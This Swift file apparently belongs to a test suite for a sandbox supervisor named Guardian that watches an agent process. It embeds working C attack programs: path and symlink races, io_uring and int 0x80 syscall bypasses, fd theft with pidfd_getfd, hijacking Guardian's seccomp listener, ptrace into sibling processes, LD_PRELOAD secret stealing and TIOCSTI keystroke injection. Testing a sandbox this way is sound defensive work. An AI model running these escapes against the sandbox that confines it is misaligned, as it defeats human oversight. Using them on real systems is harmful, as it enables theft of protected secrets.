// The C programs the attacks run, compiled with `cc` at test time into a temporary directory.
// Each one prints what it read to stdout, so a leaked secret shows up in the attack's output,
// and reports a failing syscall as `FAIL <call> <errno name>` so the suite can tell an in-kernel
// denial (no event exists for it) from a crash.

enum CHelpers {
    /// Shared by every program: read an fd to stdout, report errors by name.
    static let prelude = #"""
    #define _GNU_SOURCE
    #include <errno.h>
    #include <fcntl.h>
    #include <pthread.h>
    #include <sched.h>
    #include <signal.h>
    #include <stdint.h>
    #include <stdio.h>
    #include <stdlib.h>
    #include <string.h>
    #include <time.h>
    #include <sys/ioctl.h>
    #include <sys/mman.h>
    #include <sys/sendfile.h>
    #include <sys/stat.h>
    #include <sys/syscall.h>
    #include <sys/types.h>
    #include <sys/uio.h>
    #include <sys/wait.h>
    #include <unistd.h>
    static void fail(const char *what) { int e = errno; printf("FAIL %s %s\n", what, strerrorname_np(e) ? strerrorname_np(e) : "?"); fflush(stdout); }
    __attribute__((constructor)) static void unbuffered(void) { setvbuf(stdout, 0, _IONBF, 0); }
    static void dump(int fd) { char b[4096]; ssize_t n; while ((n = read(fd, b, sizeof b)) > 0) fwrite(b, 1, n, stdout); fflush(stdout); }
    """#

    static let sources: [String: String] = [
        // openat2(2) with and without RESOLVE_* flags.
        "openat2": #"""
        #include <linux/openat2.h>
        int main(int argc, char **argv) {
            // argv: mode dir rel
            const char *mode = argv[1];
            struct open_how how = { .flags = O_RDONLY };
            int dirfd = AT_FDCWD;
            if (strcmp(mode, "plain") != 0) {
                dirfd = open(argv[2], O_PATH | O_DIRECTORY);
                if (dirfd < 0) { fail("open-dir"); return 1; }
            }
            if (strcmp(mode, "beneath") == 0) how.resolve = RESOLVE_BENEATH | RESOLVE_NO_SYMLINKS;
            if (strcmp(mode, "inroot") == 0) how.resolve = RESOLVE_IN_ROOT;
            if (strcmp(mode, "nomagic") == 0) how.resolve = RESOLVE_NO_MAGICLINKS | RESOLVE_NO_XDEV;
            int fd = syscall(SYS_openat2, dirfd, argv[3], &how, sizeof how);
            if (fd < 0) { fail("openat2"); return 1; }
            dump(fd);
            return 0;
        }
        """#,

        // io_uring: IORING_OP_OPENAT then IORING_OP_READ, with raw syscalls (no liburing).
        "uring": #"""
        #include <linux/io_uring.h>
        static int ring_fd; static unsigned *sq_tail, *sq_mask, *sq_array, *cq_head, *cq_tail, *cq_mask;
        static struct io_uring_sqe *sqes; static struct io_uring_cqe *cqes;
        static int submit(struct io_uring_sqe *s) {
            unsigned tail = *sq_tail, idx = tail & *sq_mask;
            sqes[idx] = *s; sq_array[idx] = idx;
            __atomic_store_n(sq_tail, tail + 1, __ATOMIC_RELEASE);
            if (syscall(SYS_io_uring_enter, ring_fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0) { fail("io_uring_enter"); exit(1); }
            unsigned head = __atomic_load_n(cq_head, __ATOMIC_ACQUIRE);
            int res = cqes[head & *cq_mask].res;
            __atomic_store_n(cq_head, head + 1, __ATOMIC_RELEASE);
            return res;
        }
        int main(int argc, char **argv) {
            struct io_uring_params p; memset(&p, 0, sizeof p);
            ring_fd = syscall(SYS_io_uring_setup, 4, &p);
            if (ring_fd < 0) { fail("io_uring_setup"); return 1; }
            size_t sq_sz = p.sq_off.array + p.sq_entries * sizeof(unsigned);
            size_t cq_sz = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
            char *sq = mmap(0, sq_sz, PROT_READ|PROT_WRITE, MAP_SHARED|MAP_POPULATE, ring_fd, IORING_OFF_SQ_RING);
            char *cq = mmap(0, cq_sz, PROT_READ|PROT_WRITE, MAP_SHARED|MAP_POPULATE, ring_fd, IORING_OFF_CQ_RING);
            sqes = mmap(0, p.sq_entries * sizeof(struct io_uring_sqe), PROT_READ|PROT_WRITE, MAP_SHARED|MAP_POPULATE, ring_fd, IORING_OFF_SQES);
            sq_tail = (unsigned *)(sq + p.sq_off.tail); sq_mask = (unsigned *)(sq + p.sq_off.ring_mask); sq_array = (unsigned *)(sq + p.sq_off.array);
            cq_head = (unsigned *)(cq + p.cq_off.head); cq_tail = (unsigned *)(cq + p.cq_off.tail); cq_mask = (unsigned *)(cq + p.cq_off.ring_mask);
            cqes = (struct io_uring_cqe *)(cq + p.cq_off.cqes);
            struct io_uring_sqe s; memset(&s, 0, sizeof s);
            s.opcode = IORING_OP_OPENAT; s.fd = AT_FDCWD; s.addr = (uintptr_t)argv[1]; s.open_flags = O_RDONLY;
            int fd = submit(&s);
            if (fd < 0) { errno = -fd; fail("uring-openat"); return 1; }
            static char buf[4096]; memset(&s, 0, sizeof s);
            s.opcode = IORING_OP_READ; s.fd = fd; s.addr = (uintptr_t)buf; s.len = sizeof buf - 1;
            int n = submit(&s);
            if (n < 0) { errno = -n; fail("uring-read"); return 1; }
            fwrite(buf, 1, n, stdout);
            return 0;
        }
        """#,

        // The i386 ABI from a 64-bit process: int 0x80 open/read/write. Built -no-pie -static so
        // the path and buffer sit below 4 GiB, where 32-bit pointers reach them.
        "int80": #"""
        static char path[4096]; static char buf[4096];
        static long sys32(long nr, long a, long b, long c) {
            long ret;
            __asm__ volatile ("int $0x80" : "=a"(ret) : "a"(nr), "b"(a), "c"(b), "d"(c) : "memory");
            return ret;
        }
        int main(int argc, char **argv) {
            strncpy(path, argv[1], sizeof path - 1);
            long fd = sys32(5 /* i386 open */, (long)path, 0, 0);
            if (fd < 0) { errno = -fd; fail("int80-open"); return 1; }
            long n = sys32(3 /* i386 read */, fd, (long)buf, sizeof buf);
            if (n < 0) { errno = -n; fail("int80-read"); return 1; }
            sys32(4 /* i386 write */, 1, (long)buf, n);
            return 0;
        }
        """#,

        // One thread flips a path buffer between a harmless file and the secret while the main
        // thread opens and reads it, thousands of times.
        "flipopen": #"""
        static char buf[4096]; static const char *a, *b; static volatile int stop;
        static void *flipper(void *x) { while (!stop) { strcpy(buf, a); strcpy(buf, b); } return 0; }
        int main(int argc, char **argv) {
            a = argv[1]; b = argv[2]; int n = atoi(argv[3]);
            if (strlen(a) != strlen(b)) { printf("paths must have one length\n"); return 2; }
            strcpy(buf, a);
            pthread_t t; pthread_create(&t, 0, flipper, 0);
            int hits = 0, opened = 0;
            // At least n opens; on a busy machine the race may need longer to be won, so go on
            // (up to 8 s) until it is — the control must show the attack works.
            time_t deadline = time(0) + 8;
            for (int i = 0; i < n || (hits == 0 && time(0) < deadline); i++) {
                int fd = open(buf, O_RDONLY);
                if (fd < 0) continue;
                opened++;
                char r[512]; ssize_t k = read(fd, r, sizeof r - 1); close(fd);
                if (k > 0) { r[k] = 0; if (strstr(r, "CANARY")) { if (!hits) fputs(r, stdout); hits++; } }
            }
            stop = 1; pthread_join(t, 0);
            printf("opened %d, secret read %d times\n", opened, hits);
            return 0;
        }
        """#,

        // A symlink swap race: one thread keeps replacing DIR/x (symlink + rename) between a
        // harmless file and the secret; the main thread opens DIR/x and reads.
        "swaprace": #"""
        static const char *dir, *good, *bad; static volatile int stop;
        static void *swapper(void *x) {
            char tmp[4096], link[4096]; snprintf(tmp, sizeof tmp, "%s/.tmp", dir); snprintf(link, sizeof link, "%s/x", dir);
            int i = 0;
            while (!stop) { unlink(tmp); symlink((i++ & 1) ? bad : good, tmp); rename(tmp, link); }
            return 0;
        }
        int main(int argc, char **argv) {
            dir = argv[1]; good = argv[2]; bad = argv[3]; int n = atoi(argv[4]);
            char link[4096]; snprintf(link, sizeof link, "%s/x", dir);
            symlink(good, link);
            pthread_t t; pthread_create(&t, 0, swapper, 0);
            usleep(20000);  // let the swapper get going
            int hits = 0, opened = 0;
            for (int i = 0; i < n; i++) {
                int fd = open(link, O_RDONLY);
                if (fd < 0) continue;
                opened++;
                char r[512]; ssize_t k = read(fd, r, sizeof r - 1); close(fd);
                if (k > 0) { r[k] = 0; if (strstr(r, "CANARY")) { if (!hits) fputs(r, stdout); hits++; } }
            }
            stop = 1; pthread_join(t, 0);
            printf("opened %d, secret read %d times\n", opened, hits);
            return 0;
        }
        """#,

        // name_to_handle_at / open_by_handle_at (CAP_DAC_READ_SEARCH, i.e. root).
        "handle": #"""
        int main(int argc, char **argv) {
            if (strcmp(argv[1], "dump") == 0) {  // handle dump PATH FILE
                struct file_handle *h = malloc(sizeof *h + 128); h->handle_bytes = 128; int mnt;
                if (name_to_handle_at(AT_FDCWD, argv[2], h, &mnt, 0) < 0) { fail("name_to_handle_at"); return 1; }
                int out = open(argv[3], O_WRONLY | O_CREAT | O_TRUNC, 0600);
                write(out, h, sizeof *h + h->handle_bytes); close(out);
                printf("handle of %u bytes\n", h->handle_bytes);
                return 0;
            }
            // handle open FILE
            char raw[512]; int in = open(argv[2], O_RDONLY); ssize_t n = read(in, raw, sizeof raw); close(in);
            if (n <= 0) { fail("read-handle"); return 1; }
            int mountfd = open("/", O_RDONLY | O_DIRECTORY);
            int fd = open_by_handle_at(mountfd, (struct file_handle *)raw, O_RDONLY);
            if (fd < 0) { fail("open_by_handle_at"); return 1; }
            dump(fd);
            return 0;
        }
        """#,

        // Content through an fd obtained any way: mmap and sendfile of a plain open, of an
        // O_PATH fd, of an O_PATH fd reopened through /proc/self/fd, and of a dup.
        "fdread": #"""
        static void try_fd(const char *how, int fd) {
            if (fd < 0) { fail(how); return; }
            struct stat st; fstat(fd, &st);
            size_t len = st.st_size ? st.st_size : 4096;
            char *m = mmap(0, len, PROT_READ, MAP_PRIVATE, fd, 0);
            if (m == MAP_FAILED) fail("mmap"); else { printf("[%s mmap] ", how); fwrite(m, 1, st.st_size, stdout); munmap(m, len); }
            off_t off = 0; printf("[%s sendfile] ", how); fflush(stdout);
            if (sendfile(1, fd, &off, len) < 0) fail("sendfile");
            int p[2]; pipe(p); loff_t o2 = 0;
            ssize_t k = splice(fd, &o2, p[1], 0, len, 0);
            if (k < 0) fail("splice"); else { char b[4096]; k = read(p[0], b, sizeof b); printf("[%s splice] ", how); fwrite(b, 1, k, stdout); }
            fflush(stdout);
        }
        int main(int argc, char **argv) {
            const char *path = argv[1];
            try_fd("open", open(path, O_RDONLY));
            int o = open(path, O_PATH);
            try_fd("opath", o);
            char proc[64]; snprintf(proc, sizeof proc, "/proc/self/fd/%d", o);
            try_fd("opath-reopen", open(proc, O_RDONLY));
            snprintf(proc, sizeof proc, "/dev/fd/%d", o);
            try_fd("devfd-reopen", open(proc, O_RDONLY));
            try_fd("opath-dup", dup(o));
            return 0;
        }
        """#,

        // fexecve of a memfd (or an O_TMPFILE) holding a copy of PROGRAM: fdexec memfd|tmpfile PROGRAM DIR ARGS…
        "fdexec": #"""
        int main(int argc, char **argv) {
            int src = open(argv[2], O_RDONLY);
            if (src < 0) { fail("open-program"); return 1; }
            int fd = strcmp(argv[1], "memfd") == 0 ? memfd_create("innocent", 0) : open(argv[3], O_TMPFILE | O_RDWR, 0755);
            if (fd < 0) { fail(argv[1]); return 1; }
            char b[65536]; ssize_t n; while ((n = read(src, b, sizeof b)) > 0) write(fd, b, n);
            fchmod(fd, 0755);
            // No writable fd may stay open on an executable (ETXTBSY): reopen it read-only.
            char again[64]; snprintf(again, sizeof again, "/proc/self/fd/%d", fd);
            int ro = open(again, O_RDONLY);
            if (ro >= 0) { close(fd); fd = ro; }
            extern char **environ;
            argv[3] = "innocent";
            syscall(SYS_execveat, fd, "", &argv[3], environ, AT_EMPTY_PATH);
            fail("fexecve");
            return 1;
        }
        """#,

        // execveat with an fd: execat empty PROGRAM ARGS… | execat dirfd DIR NAME ARGS…
        "execat": #"""
        int main(int argc, char **argv) {
            extern char **environ;
            if (strcmp(argv[1], "empty") == 0) {
                int fd = open(argv[2], O_PATH);
                if (fd < 0) { fail("open"); return 1; }
                syscall(SYS_execveat, fd, "", &argv[3], environ, AT_EMPTY_PATH);
            } else {
                int dir = open(argv[2], O_PATH | O_DIRECTORY);
                syscall(SYS_execveat, dir, argv[3], &argv[4], environ, 0);
            }
            fail("execveat");
            return 1;
        }
        """#,

        // vfork + execv: vforkexec PROGRAM ARGS…
        "vforkexec": #"""
        int main(int argc, char **argv) {
            pid_t p = vfork();
            if (p == 0) { execv(argv[1], &argv[2]); _exit(127); }
            int st; waitpid(p, &st, 0);
            printf("child status %d\n", st);
            return 0;
        }
        """#,

        // exec from a non-main thread: threadexec PROGRAM ARGS…
        "threadexec": #"""
        static char **args;
        static void *run(void *x) { execv(args[1], &args[2]); fail("execv"); return 0; }
        int main(int argc, char **argv) {
            args = argv; pthread_t t; pthread_create(&t, 0, run, 0);
            pthread_join(t, 0); sleep(1);
            return 0;
        }
        """#,

        // A thread flips one argv string (or the path) while the main thread execs, in a fresh
        // child per attempt: execflip argv|path N PROGRAM_A PROGRAM_B ARG_INDEX WORD_A WORD_B ARGS…
        // argv mode: exec PROGRAM_A with ARGS, argv[ARG_INDEX] flipping between WORD_A and WORD_B.
        // path mode: exec PROGRAM_A/PROGRAM_B (same length) alternately, ARGS unchanged.
        "execflip": #"""
        static volatile char *target; static const char *wa, *wb; static size_t wl; static volatile long flips;
        static void *flipper(void *x) { for (;;) { memcpy((char *)target, wa, wl); memcpy((char *)target, wb, wl); flips++; } return 0; }
        int main(int argc, char **argv) {
            const char *mode = argv[1]; int n = atoi(argv[2]);
            const char *pa = argv[3], *pb = argv[4]; int idx = atoi(argv[5]);
            char **args = &argv[8];
            int wins = 0;
            for (int i = 0; i < n; i++) {
                pid_t p = fork();
                if (p == 0) {
                    static char path[4096]; strcpy(path, pa);
                    if (strcmp(mode, "argv") == 0) {
                        wa = argv[6]; wb = argv[7]; wl = strlen(wa) + 1;
                        static char word[256]; strcpy(word, wa); args[idx] = word; target = word;
                    } else {
                        wa = pa; wb = pb; wl = strlen(pa) + 1; target = path;
                    }
                    pthread_t t; pthread_create(&t, 0, flipper, 0);
                    while (flips < 200) ;  // the race is on before the exec starts
                    extern char **environ;
                    syscall(SYS_execve, path, args, environ);
                    _exit(111);
                }
                int st; waitpid(p, &st, 0);
                if (WIFEXITED(st) && WEXITSTATUS(st) == 0) wins++;
            }
            printf("attempts %d, execs that ran %d\n", n, wins);
            return 0;
        }
        """#,

        // Run a command in a child created with CLONE_UNTRACED: untraced PROGRAM ARGS…
        "untraced": #"""
        static char **args; static char stack[1 << 16];
        static int child(void *x) { extern char **environ; execve(args[1], &args[1], environ); fail("execve"); return 127; }
        int main(int argc, char **argv) {
            args = argv;
            pid_t p = clone(child, stack + sizeof stack, CLONE_UNTRACED | SIGCHLD, 0);
            if (p < 0) { fail("clone"); return 1; }
            int st; waitpid(p, &st, 0);
            return WIFEXITED(st) ? WEXITSTATUS(st) : 1;
        }
        """#,

        // ptrace a sibling: fork a child that sleeps, PTRACE_ATTACH it, change a variable.
        "ptracesib": #"""
        #include <sys/ptrace.h>
        static volatile long flag = 1;
        int main(void) {
            pid_t p = fork();
            if (p == 0) { for (int i = 0; i < 50 && flag == 1; i++) usleep(20000); printf(flag == 1 ? "sibling untouched\n" : "sibling memory changed by ptrace\n"); fflush(stdout); _exit(0); }
            usleep(50000);
            if (ptrace(PTRACE_ATTACH, p, 0, 0) < 0) { fail("ptrace"); waitpid(p, 0, 0); return 0; }
            waitpid(p, 0, __WALL);
            ptrace(PTRACE_POKEDATA, p, &flag, (void *)2);
            ptrace(PTRACE_DETACH, p, 0, 0);
            waitpid(p, 0, 0);
            return 0;
        }
        """#,

        // process_vm_writev into a sibling.
        "pvwrite": #"""
        static volatile long flag = 1;
        int main(void) {
            pid_t p = fork();
            if (p == 0) { for (int i = 0; i < 50 && flag == 1; i++) usleep(20000); printf(flag == 1 ? "sibling untouched\n" : "sibling memory changed by process_vm_writev\n"); fflush(stdout); _exit(0); }
            usleep(50000);
            long v = 2; struct iovec l = { &v, sizeof v }, r = { (void *)&flag, sizeof v };
            if (process_vm_writev(p, &l, 1, &r, 1, 0) < 0) fail("process_vm_writev");
            waitpid(p, 0, 0);
            return 0;
        }
        """#,

        // pidfd_getfd: take an fd out of another process: stealfd PID FD
        "stealfd": #"""
        int main(int argc, char **argv) {
            int pidfd = syscall(SYS_pidfd_open, atoi(argv[1]), 0);
            if (pidfd < 0) { fail("pidfd_open"); return 1; }
            int fd = syscall(SYS_pidfd_getfd, pidfd, atoi(argv[2]), 0);
            if (fd < 0) { fail("pidfd_getfd"); return 1; }
            lseek(fd, 0, SEEK_SET);
            dump(fd);
            return 0;
        }
        """#,

        // Take Guardian's seccomp listener with pidfd_getfd, stop Guardian, and answer our own
        // open of the secret with CONTINUE: listener PATH GUARDIAN_PID
        "listener": #"""
        #include <linux/seccomp.h>
        #include <poll.h>
        static int go[2]; static const char *path;
        static void *opener(void *x) {
            char c; read(go[0], &c, 1);
            int fd = open(path, O_RDONLY);
            if (fd < 0) fail("open"); else dump(fd);
            return 0;
        }
        int main(int argc, char **argv) {
            path = argv[1];
            pid_t g = argc > 2 ? atoi(argv[2]) : getppid();  // Guardian: the agent's parent
            int listener = -1;
            int pidfd = syscall(SYS_pidfd_open, g, 0);
            if (pidfd < 0) fail("pidfd_open");
            for (int i = 0; pidfd >= 0 && i < 256 && listener < 0; i++) {
                int fd = syscall(SYS_pidfd_getfd, pidfd, i, 0);
                if (fd < 0) { if (i == 3) fail("pidfd_getfd"); continue; }
                char l[64], t[128]; snprintf(l, sizeof l, "/proc/self/fd/%d", fd);
                ssize_t n = readlink(l, t, sizeof t - 1); t[n > 0 ? n : 0] = 0;
                if (strstr(t, "seccomp")) { listener = fd; printf("took the listener (fd %d of pid %d)\n", i, g); } else close(fd);
            }
            pipe(go);
            pthread_t t; pthread_create(&t, 0, opener, 0);
            usleep(100000);
            // Every Guardian thread must be stopped before our open, or one of its workers takes it.
            if (listener >= 0) { kill(g, SIGSTOP); usleep(300000); }
            write(go[1], "x", 1);
            if (listener >= 0) {
                for (int k = 0; k < 3; k++) {
                    struct pollfd pfd = { .fd = listener, .events = POLLIN };
                    if (poll(&pfd, 1, 3000) <= 0) { printf("no notification came\n"); break; }
                    struct seccomp_notif n; memset(&n, 0, sizeof n);
                    if (ioctl(listener, SECCOMP_IOCTL_NOTIF_RECV, &n) < 0) { fail("NOTIF_RECV"); break; }
                    struct seccomp_notif_resp r = { .id = n.id, .flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE };
                    ioctl(listener, SECCOMP_IOCTL_NOTIF_SEND, &r);
                    if (n.data.nr == SYS_openat || n.data.nr == SYS_open) break;
                }
            }
            if (listener >= 0) kill(g, SIGCONT);
            pthread_join(t, 0);
            return 0;
        }
        """#,

        // A second seccomp listener (nested supervision), by seccomp(2) and with TSYNC.
        "seccompnest": #"""
        #include <linux/filter.h>
        #include <linux/seccomp.h>
        #include <sys/prctl.h>
        int main(void) {
            struct sock_filter allow[] = { BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW) };
            struct sock_fprog prog = { 1, allow };
            prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
            int fd = syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER, &prog);
            if (fd < 0) fail("seccomp-listener"); else printf("installed a listener: fd %d\n", fd);
            fd = syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER | SECCOMP_FILTER_FLAG_TSYNC_ESRCH, &prog);
            if (fd < 0) fail("seccomp-listener-tsync"); else printf("installed a listener: fd %d\n", fd);
            return 0;
        }
        """#,

        // A static binary with raw syscalls: no libc wrapper to interpose on.
        "rawopen": #"""
        int main(int argc, char **argv) {
            long fd = syscall(SYS_openat, AT_FDCWD, argv[1], O_RDONLY, 0);
            if (fd < 0) { fail("openat"); return 1; }
            dump(fd);
            fd = syscall(SYS_open, argv[1], O_RDONLY, 0);
            if (fd < 0) { fail("open"); return 1; }
            dump(fd);
            return 0;
        }
        """#,

        // An LD_PRELOAD library whose constructor reads $STEAL.
        "preload": #"""
        __attribute__((constructor)) static void steal(void) {
            const char *p = getenv("STEAL"); if (!p) return;
            unsetenv("LD_PRELOAD");
            int fd = syscall(SYS_openat, AT_FDCWD, p, O_RDONLY, 0);
            if (fd < 0) fail("preload-open"); else dump(fd);
        }
        """#,

        // Open a file with O_RDWR: openrw PATH (prints OPENED-RW on success).
        "openrw": #"""
        int main(int argc, char **argv) {
            int fd = open(argv[1], O_RDWR);
            if (fd < 0) { fail("open-rdwr"); return 1; }
            printf("OPENED-RW %s as fd %d\n", argv[1], fd);
            return 0;
        }
        """#,

        // userfaultfd(2), and the same object from /dev/userfaultfd (Linux 6.1+).
        "uffd": #"""
        #include <linux/userfaultfd.h>
        #ifndef USERFAULTFD_IOC_NEW
        #define USERFAULTFD_IOC_NEW _IO(0xAA, 0x00)
        #endif
        int main(void) {
            int fd = syscall(SYS_userfaultfd, O_CLOEXEC);
            if (fd < 0) fail("userfaultfd"); else printf("GOT-UFFD from the syscall\n");
            int dev = open("/dev/userfaultfd", O_RDWR | O_CLOEXEC);
            if (dev < 0) { fail("open-dev-userfaultfd"); return 0; }
            int u = ioctl(dev, USERFAULTFD_IOC_NEW, O_CLOEXEC);
            if (u < 0) fail("USERFAULTFD_IOC_NEW"); else printf("GOT-UFFD from /dev/userfaultfd\n");
            return 0;
        }
        """#,

        // A TIOCSTI keystroke into a pty we own.
        "tiocsti": #"""
        #include <pty.h>
        int main(void) {
            int m, s; if (openpty(&m, &s, 0, 0, 0) < 0) { fail("openpty"); return 1; }
            const char *cmd = "INJECTED\n";
            for (const char *c = cmd; *c; c++) if (ioctl(s, TIOCSTI, c) < 0) { fail("TIOCSTI"); return 0; }
            char b[64]; ssize_t n = read(m, b, sizeof b - 1); if (n > 0) { b[n] = 0; printf("pty saw: %s", b); }
            return 0;
        }
        """#,
    ]

    /// Programs that need more than `cc -O1 -pthread`.
    static let extraFlags: [String: [String]] = [
        "int80": ["-static", "-no-pie", "-fno-pie"],
        "rawopen": ["-static"],
        "preload": ["-shared", "-fPIC"],
        "tiocsti": ["-lutil"],
    ]
}
